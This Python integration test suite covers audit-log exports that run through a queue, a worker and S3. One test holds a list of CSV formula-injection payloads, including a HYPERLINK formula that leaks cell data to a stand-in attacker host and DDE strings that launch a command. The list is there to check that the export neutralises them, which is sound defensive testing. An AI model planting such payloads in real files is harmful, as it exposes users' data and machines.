"""Audit exports end to end on moto: API -> jobs queue -> jobs worker -> S3 -> API."""

from __future__ import annotations

import csv
import io
import json
import math
from typing import Any

import pytest

from serval.adapters import audit, dynamo
from serval.adapters import jobs as job_store
from serval.domain.actor import Actor
from serval.domain.jobs import JobKind
from serval.logic import audit_export
from tests.integration.api_client import LambdaContextStub, call
from tests.integration.conftest import Aws

LABELS = {"controls": [{"name": "shape", "type": "classification", "classes": [{"name": "circle"}]}]}


def _project(actor: Actor) -> str:
    response = call(
        "POST", "/projects", actor, {"name": "P", "media_types": ["text"], "label_config": LABELS}
    )
    assert response.status == 201, response.body
    return str(response.body["project_id"])


def _touch(project_id: str, actor: Actor, text: str) -> None:
    assert call("PATCH", f"/projects/{project_id}", actor, {"description": text}).status == 200


def _received(aws: Aws) -> list[dict[str, Any]]:
    """The messages waiting on the jobs queue, as Lambda's SQS event records."""
    messages = aws.sqs.receive_message(QueueUrl=aws.env["JOBS_QUEUE_URL"], MaxNumberOfMessages=10).get(
        "Messages", []
    )
    return [_record(m["Body"], m["MessageId"]) for m in messages]


def _record(body: str, message_id: str = "m-1") -> dict[str, Any]:
    return {
        "messageId": message_id,
        "receiptHandle": "rh",
        "body": body,
        "attributes": {"ApproximateReceiveCount": "1"},
        "messageAttributes": {},
        "md5OfBody": "",
        "eventSource": "aws:sqs",
        "eventSourceARN": "arn:aws:sqs:us-east-1:123456789012:serval-local-jobs",
        "awsRegion": "us-east-1",
    }


def _run_worker(records: list[dict[str, Any]]) -> list[str]:
    """Invoke the jobs Lambda handler; returns the ids of the messages it asked to retry."""
    from jobs.handler import handler

    response = handler({"Records": records}, LambdaContextStub(function_name="serval-local-jobs"))  # type: ignore[arg-type]
    return [f["itemIdentifier"] for f in response["batchItemFailures"]]


def _object(aws: Aws, key: str) -> bytes:
    return bytes(aws.s3.get_object(Bucket=aws.env["EXPORT_BUCKET"], Key=key)["Body"].read())


def _records_before(project_id: str, actor: Actor, at: str) -> list[dict[str, Any]]:
    """The project's audit records older than ``at``, oldest first, read through the API."""
    response = call("GET", f"/projects/{project_id}/audit?order=asc&limit=500&until={at}", actor)
    assert response.status == 200, response.body
    assert response.body["next_cursor"] is None
    return list(response.body["items"])


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_runs_as_a_job_and_matches_the_records(aws: Aws, admin: Actor, fmt: str) -> None:
    # Given a project with some history
    project_id = _project(admin)
    for i in range(5):
        _touch(project_id, admin, f'change {i}, "quoted"\nnew line')
    # When an export is requested
    created = call("POST", f"/projects/{project_id}/audit/exports", admin, {"format": fmt})
    # Then a queued job comes back at once
    assert created.status == 202, created.body
    job = created.body
    assert (job["kind"], job["status"], job["download_url"]) == ("audit_export", "queued", None)
    polled = call("GET", f"/projects/{project_id}/audit/exports/{job['job_id']}", admin)
    assert polled.body["status"] == "queued"
    # When the worker runs the message from the jobs queue
    records = _received(aws)
    assert len(records) == 1
    assert _run_worker(records) == []
    # Then the job succeeded with the record count and a download link
    done = call("GET", f"/projects/{project_id}/audit/exports/{job['job_id']}", admin).body
    expected = _records_before(project_id, admin, job["created_at"])
    assert len(expected) == 6  # project.create + 5 updates; the export's own record is after it
    assert done["status"] == "succeeded"
    assert done["counts"] == {"done": 6, "failed": 0}
    assert done["result_key"] == f"audit-exports/{project_id}/{job['job_id']}.{fmt}"
    assert done["download_url"].startswith("https://")
    # And the file holds exactly those records, oldest first
    text = _object(aws, done["result_key"]).decode("utf-8")
    if fmt == "jsonl":
        exported = [json.loads(line) for line in text.splitlines()]
        assert exported == expected
    else:
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert tuple(rows[0].keys()) == audit_export.CSV_COLUMNS
        assert [r["audit_id"] for r in rows] == [r["audit_id"] for r in expected]
        for row, record in zip(rows, expected, strict=True):
            assert row["action"] == record["action"]
            assert row["at"] == record["at"]
            assert json.loads(row["after"]) == record["after"]
            assert (json.loads(row["before"]) if row["before"] else None) == record["before"]


def test_export_filters_by_actor_and_time(aws: Aws, admin: Actor) -> None:
    other = Actor(user_id="u-admin-2", username="admin2", groups=("admin",))
    project_id = _project(admin)
    for i in range(3):
        _touch(project_id, admin, f"admin {i}")
        _touch(project_id, other, f"other {i}")
    created = call("POST", f"/projects/{project_id}/audit/exports", admin, {"actor": other.user_id})
    assert _run_worker(_received(aws)) == []
    done = call("GET", f"/projects/{project_id}/audit/exports/{created.body['job_id']}", admin).body
    lines = [json.loads(x) for x in _object(aws, done["result_key"]).decode().splitlines()]
    assert [x["after"]["description"] for x in lines] == ["other 0", "other 1", "other 2"]
    assert done["counts"]["done"] == 3


def test_export_request_is_validated(aws: Aws, admin: Actor) -> None:
    project_id = _project(admin)
    url = f"/projects/{project_id}/audit/exports"
    assert call("POST", url, admin, {"format": "xml"}).status == 422
    bad_range = {"since": "2025-02-01T00:00:00Z", "until": "2025-01-01T00:00:00Z"}
    assert call("POST", url, admin, bad_range).status == 422
    assert call("POST", "/projects/p_nope/audit/exports", admin, {}).status == 404
    assert call("GET", f"{url}/job_nope", admin).status == 404


def test_a_redelivered_message_does_not_rerun_a_finished_job(aws: Aws, admin: Actor) -> None:
    # Given an export that ran once
    project_id = _project(admin)
    _touch(project_id, admin, "x")
    job_id = call("POST", f"/projects/{project_id}/audit/exports", admin, {}).body["job_id"]
    records = _received(aws)
    assert _run_worker(records) == []
    first = call("GET", f"/projects/{project_id}/audit/exports/{job_id}", admin).body
    etag = aws.s3.head_object(Bucket=aws.env["EXPORT_BUCKET"], Key=first["result_key"])["ETag"]
    # When the same message is delivered again
    assert _run_worker(records) == []
    # Then nothing changed: same job, same object, one completion record
    again = call("GET", f"/projects/{project_id}/audit/exports/{job_id}", admin).body
    assert {k: v for k, v in again.items() if k != "download_url"} == {
        k: v for k, v in first.items() if k != "download_url"
    }
    assert again["attempts"] == 1
    assert aws.s3.head_object(Bucket=aws.env["EXPORT_BUCKET"], Key=first["result_key"])["ETag"] == etag
    completions = call("GET", f"/projects/{project_id}/audit?action=job.complete", admin).body["items"]
    assert [c["target_id"] for c in completions] == [job_id]


def test_a_job_held_by_another_worker_is_retried_later(aws: Aws, admin: Actor) -> None:
    project_id = _project(admin)
    job_id = call("POST", f"/projects/{project_id}/audit/exports", admin, {}).body["job_id"]
    records = _received(aws)
    assert job_store.claim(project_id, job_id, lease_seconds=600) is not None  # another worker
    assert _run_worker(records) == [records[0]["messageId"]]
    assert call("GET", f"/projects/{project_id}/audit/exports/{job_id}", admin).body["status"] == "running"


def test_poison_messages_are_reported_once_and_fail_their_job(aws: Aws, admin: Actor) -> None:
    # Given a message that is not JSON, one naming no job, and a job whose params are broken
    project_id = _project(admin)
    broken = job_store.new(project_id, JobKind.AUDIT_EXPORT, {"format": "xml"}, admin.user_id)
    job_store.create(broken, admin, "audit.export")
    records = [
        _record("{not json", "m-1"),
        _record(json.dumps({"job_id": "job_nope", "project_id": project_id}), "m-2"),
        _record(json.dumps({"job_id": broken.job_id, "project_id": project_id}), "m-3"),
    ]
    # When the worker gets them
    retried = _run_worker(records)
    # Then none is retried, and the broken job failed with its error
    assert retried == []
    failed = call("GET", f"/projects/{project_id}/audit/exports/{broken.job_id}", admin).body
    assert failed["status"] == "failed"
    assert "parameters are invalid" in failed["error"]
    assert failed["download_url"] is None
    # And the unknown job was not created by the attempt to fail it
    assert call("GET", f"/projects/{project_id}/audit/exports/job_nope", admin).status == 404


def test_a_job_that_cannot_be_queued_is_failed_at_once(
    aws: Aws, admin: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a jobs queue that does not exist
    project_id = _project(admin)
    monkeypatch.setenv("JOBS_QUEUE_URL", aws.env["JOBS_QUEUE_URL"] + "-gone")
    # When an export is requested
    response = call("POST", f"/projects/{project_id}/audit/exports", admin, {})
    # Then the caller is told to retry and the job is not left queued
    assert response.status == 429, response.body
    job_id = response.body["error"]["details"]["job_id"]
    job = call("GET", f"/projects/{project_id}/audit/exports/{job_id}", admin).body
    assert job["status"] == "failed"
    assert "could not be queued" in job["error"]


def test_a_large_export_streams_in_several_multipart_parts(
    aws: Aws, admin: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given ~16 MB of audit records (big payloads) and the smallest part size S3 allows
    project_id = _project(admin)
    payload = "x" * 60_000
    for batch in range(10):
        tx = dynamo.Tx()
        for i in range(27):
            n = batch * 27 + i
            audit.record(
                tx, admin, "task.update", "task", f"t{n}", project_id, after={"n": n, "blob": payload}
            )
        tx.commit()
    monkeypatch.setattr(audit_export, "PART_BYTES", job_store.MIN_PART_BYTES)
    # When it is exported
    job_id = call("POST", f"/projects/{project_id}/audit/exports", admin, {"format": "jsonl"}).body["job_id"]
    assert _run_worker(_received(aws)) == []
    # Then every record is there, uploaded in parts of at most 5 MiB
    done = call("GET", f"/projects/{project_id}/audit/exports/{job_id}", admin).body
    assert done["counts"]["done"] == 271
    head = aws.s3.head_object(Bucket=aws.env["EXPORT_BUCKET"], Key=done["result_key"])
    size = head["ContentLength"]
    parts = int(head["ETag"].strip('"').rsplit("-", 1)[1])  # a multipart ETag ends in -<parts>
    assert size > 3 * job_store.MIN_PART_BYTES
    assert parts == math.ceil(size / job_store.MIN_PART_BYTES)
    lines = _object(aws, done["result_key"]).decode().splitlines()
    assert sorted(json.loads(x)["after"]["n"] for x in lines[1:]) == list(range(270))


def test_a_transient_failure_is_retried_then_fails_the_job_on_the_last_attempt(
    aws: Aws, admin: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given an export whose reads keep failing, and leases that expire at once (a dead worker's)
    from serval.adapters import audit_queries
    from serval.logic import jobs

    def broken(*_: Any, **__: Any) -> Any:
        raise ConnectionError("the network is down")

    project_id = _project(admin)
    job_id = call("POST", f"/projects/{project_id}/audit/exports", admin, {}).body["job_id"]
    records = _received(aws)
    monkeypatch.setattr(audit_queries, "iter_raw", broken)
    monkeypatch.setattr(jobs, "LEASE_SECONDS", -1)
    # When the message is delivered as often as the queue allows
    retried = [_run_worker(records) for _ in range(jobs.MAX_ATTEMPTS)]
    # Then every delivery but the last asks for a retry, and the last fails the job
    assert retried == [[records[0]["messageId"]]] * (jobs.MAX_ATTEMPTS - 1) + [[]]
    job = call("GET", f"/projects/{project_id}/audit/exports/{job_id}", admin).body
    assert (job["status"], job["attempts"]) == ("failed", jobs.MAX_ATTEMPTS)
    assert job["error"] == "gave up after 3 attempts: ConnectionError"


HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(aws: Aws, admin: Actor) -> None:
    # Given changes whose caller-chosen user agent and description start like formulas
    project_id = _project(admin)
    for text in HOSTILE:
        response = call(
            "PATCH", f"/projects/{project_id}", admin, {"description": text}, headers={"User-Agent": text}
        )
        assert response.status == 200, response.body
    # When the audit trail is exported as CSV and as JSON Lines
    csv_job = call("POST", f"/projects/{project_id}/audit/exports", admin, {"format": "csv"}).body
    jsonl_job = call("POST", f"/projects/{project_id}/audit/exports", admin, {"format": "jsonl"}).body
    assert _run_worker(_received(aws)) == []
    # Then every CSV cell that started like a formula starts with a single quote instead
    csv_done = call("GET", f"/projects/{project_id}/audit/exports/{csv_job['job_id']}", admin).body
    rows = list(csv.DictReader(io.StringIO(_object(aws, csv_done["result_key"]).decode(), newline="")))
    agents = [r["user_agent"] for r in rows if r["action"] == "project.update"]
    assert agents == ["'" + text for text in HOSTILE]
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"]
    # And JSON Lines, which no spreadsheet evaluates, keeps the values as they were sent
    jsonl_done = call("GET", f"/projects/{project_id}/audit/exports/{jsonl_job['job_id']}", admin).body
    lines = [json.loads(x) for x in _object(aws, jsonl_done["result_key"]).decode().splitlines()]
    assert [x["user_agent"] for x in lines if x["action"] == "project.update"] == HOSTILE


def _kept(aws: Aws) -> list[dict[str, Any]]:
    url = aws.env["JOBS_DEAD_URL"]
    return list(
        aws.sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=10, MessageAttributeNames=["All"]).get(
            "Messages", []
        )
    )


def test_a_dead_lettered_message_fails_its_job_unless_it_finished_and_is_kept(aws: Aws, admin: Actor) -> None:
    # Given a job that succeeded, one still running, and a message that is no job message
    from serval.logic import jobs

    project_id = _project(admin)
    done_id = call("POST", f"/projects/{project_id}/audit/exports", admin, {}).body["job_id"]
    assert _run_worker(_received(aws)) == []
    running_id = call("POST", f"/projects/{project_id}/audit/exports", admin, {}).body["job_id"]
    job_store.claim(project_id, running_id, 900)
    shard = {"job_id": running_id, "project_id": project_id, "step": "shard", "shard": 2, "shards": 4}
    # When their last deliveries reach the jobs DLQ's consumer
    outcomes = [
        jobs.fail_dead_letter(json.dumps({"job_id": done_id, "project_id": project_id}), {"kind": "x"}),
        jobs.fail_dead_letter(json.dumps(shard), {"kind": "dataset_export", "step": "shard"}),
        jobs.fail_dead_letter("garbage", {}),
    ]
    # Then the finished job is left alone, the running one failed naming its shard
    assert [o.kind for o in outcomes] == ["skipped", "failed", "poison"]
    assert call("GET", f"/projects/{project_id}/audit/exports/{done_id}", admin).body["status"] == "succeeded"
    failed = call("GET", f"/projects/{project_id}/audit/exports/{running_id}", admin).body
    assert (failed["status"], failed["error"]) == (
        "failed",
        "shard 3 of 4 of the export did not finish in any of its 3 deliveries: "
        "the jobs worker crashed or timed out each time",
    )
    # And every message is kept in jobs-dead with its outcome
    kept = sorted(_kept(aws), key=lambda m: m["MessageAttributes"]["outcome"]["StringValue"])
    assert [m["MessageAttributes"]["outcome"]["StringValue"] for m in kept] == ["failed", "poison", "skipped"]
    assert kept[0]["Body"] == json.dumps(shard)
    assert kept[0]["MessageAttributes"]["step"]["StringValue"] == "shard"
